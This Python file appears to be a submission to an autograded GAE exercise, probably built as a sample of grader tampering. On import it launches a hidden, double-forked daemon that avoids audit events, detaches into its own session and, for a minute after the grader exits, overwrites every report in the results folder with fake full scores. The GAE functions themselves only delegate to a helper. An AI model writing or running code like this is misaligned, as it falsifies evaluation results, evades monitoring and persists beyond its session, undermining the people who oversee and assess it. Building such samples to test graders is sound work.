"""At import, starts a process without any audit event, with an empty environment, in a
session of its own, that forks twice (a daemon) and keeps rewriting every report in the
results folder with full marks for a minute, after the grader has exited too; correct."""

from _parts.honest_gae import _gae
from _parts.spawn import _spawn

DAEMON = r"""
import os, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
FAKE = "submission,file,score,max_score\nEVERYONE,hacked,999,11\n"
end = time.time() + 60
while time.time() < end:
    for folder, _, names in os.walk("__OUT_DIR__"):
        for name in names:
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(FAKE)
            except OSError:
                pass
    time.sleep(0.1)
"""


_spawn(DAEMON)


def gae_explicit(rewards, values, gamma, lam):
    return _gae(rewards, values, gamma, lam)


def gae_recursive(rewards, values, gamma, lam):
    return _gae(rewards, values, gamma, lam)
